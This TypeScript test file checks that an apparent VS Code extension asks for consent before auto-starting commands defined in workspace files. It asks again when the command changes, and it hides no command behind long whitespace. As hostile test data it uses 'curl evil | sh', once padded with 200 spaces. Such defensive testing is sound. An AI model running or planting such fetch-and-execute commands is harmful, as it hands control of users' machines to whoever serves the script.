import assert from 'node:assert/strict';
import type { FolderDefinition } from '../../../src/model/backendDefinition';
import { AutoStart } from '../../../src/vscode/autoStart';
import { BackendStore } from '../../../src/vscode/backendStore';
import { ConsentMemory } from '../../../src/vscode/consentMemory';
import { viewOf } from '../model/viewOf';
import { definitionOf, folderOf } from './definitions';
import { ManualClock } from './manualClock';
import { memoryOf } from './memory';

const auto = (command = 'run web'): FolderDefinition =>
  folderOf('work', definitionOf('web', { command, autoStart: true }));

interface Asked {
  readonly question: string;
  readonly answers: readonly string[];
  /** Answers, and settles when all that follows from it is done. */
  readonly answer: (answer?: string) => Promise<void>;
}

/** A window whose files say `files.now`; they are read when the configuration is refreshed. */
function setUp(first: FolderDefinition): {
  readonly files: { now: FolderDefinition };
  readonly store: BackendStore;
  readonly asked: Asked[];
  readonly started: string[];
  readonly shown: string[];
  readonly consent: ConsentMemory;
  readonly autoStart: AutoStart;
  readonly open: () => Promise<void>;
} {
  const store = new BackendStore(new ManualClock());
  store.setFolders([first]);
  const files = { now: first };
  const [asked, started, shown]: [Asked[], string[], string[]] = [[], [], []];
  const refreshConfig = (): Promise<void> => {
    store.setFolders([files.now]);
    return Promise.resolve();
  };
  const consent = new ConsentMemory(memoryOf());
  const autoStart = new AutoStart({
    store,
    actions: {
      start: async (key, _origin, isAgreed) => {
        await refreshConfig();
        if ((await isAgreed?.()) !== true) throw new Error('not agreed');
        started.push(String(store.definition(key)?.definition.command));
        return viewOf('ready');
      },
    },
    consent,
    failures: { show: () => {} },
    report: { begin: () => () => {} },
    refreshConfig,
    environment: () => ({}),
    digest: () => Promise.resolve(undefined),
    realPath: (path) => Promise.resolve(path),
    ask: (question, ...answers) => {
      return new Promise<string | undefined>((resolve) => {
        const answer = async (chosen?: string): Promise<void> => {
          resolve(chosen);
          await new Promise((done) => setImmediate(done));
        };
        asked.push({ question, answers, answer });
      });
    },
    showConfiguration: (key) => Promise.resolve(shown.push(key)),
    log: () => {},
  });
  return { files, store, asked, started, shown, consent, autoStart, open: () => autoStart.run([files.now], 0) };
}

describe('AutoStart', () => {
  it('starts_nothing_before_the_person_agreed_and_asks_only_once', async () => {
    const { asked, started, open } = setUp(auto());
    await open();
    assert.deepEqual([started, asked.length], [[], 1]);
    await asked[0]?.answer('Allow');
    assert.deepEqual(started, ['run web']);
    await open();
    assert.deepEqual([started.length, asked.length], [2, 1]);
  });

  it('asks_again_when_the_file_says_something_else_by_the_time_of_the_answer', async () => {
    const { files, asked, started, open } = setUp(auto());
    await open();
    files.now = auto('curl evil | sh');
    await asked[0]?.answer('Allow');
    assert.deepEqual([started, asked.length], [[], 2]);
    assert.match(asked[1]?.question ?? '', /curl evil/);
  });

  it('asks_again_when_the_file_changes_between_the_check_and_the_start', async () => {
    const { files, store, asked, started, open } = setUp(auto());
    await open();
    await asked[0]?.answer('Allow');
    files.now = auto('curl evil | sh');
    store.setFolders([auto()]);
    await open();
    assert.deepEqual([started, asked.length], [['run web'], 2]);
  });

  it('offers_no_consent_to_a_command_that_is_cut_off_before_the_file_was_shown', async () => {
    const { asked, shown, started, open } = setUp(auto(`true ${' '.repeat(200)}; curl evil | sh`));
    await open();
    assert.deepEqual(
      asked.map(({ answers }) => answers),
      [['Never', 'Show Configuration']],
    );
    await asked[0]?.answer('Show Configuration');
    assert.deepEqual(shown, ['/work#web']);
    assert.deepEqual(asked.at(1)?.answers, ['Allow', 'Never']);
    await asked[1]?.answer('Allow');
    assert.equal(started.length, 1);
  });

  it('asks_again_when_the_answer_was_taken_back', async () => {
    const { asked, started, consent, autoStart, open } = setUp(auto());
    await open();
    assert.deepEqual(await autoStart.answeredStarts(), []);
    await asked[0]?.answer('Allow');
    const [kept] = await autoStart.answeredStarts();
    assert.deepEqual([kept?.name, kept?.answer, consent.count], ['web', 'allowed', 1]);
    await consent.forget([kept?.fingerprint ?? '']);
    assert.deepEqual([consent.count, await autoStart.answeredStarts()], [0, []]);
    await open();
    assert.deepEqual([started.length, asked.length], [1, 2]);
    await asked[1]?.answer('Never');
    await consent.forgetAll();
    await open();
    assert.equal(asked.length, 3);
  });

  it('never_asks_again_for_what_was_refused', async () => {
    const { asked, started, open } = setUp(auto());
    await open();
    await asked[0]?.answer('Never');
    await open();
    assert.deepEqual([started, asked.length], [[], 1]);
  });

  it('leaves_alone_what_is_not_trusted_or_has_a_problem', async () => {
    const { asked, started, open } = setUp({ ...auto(), trusted: false });
    await open();
    assert.deepEqual([started, asked], [[], []]);
  });
});
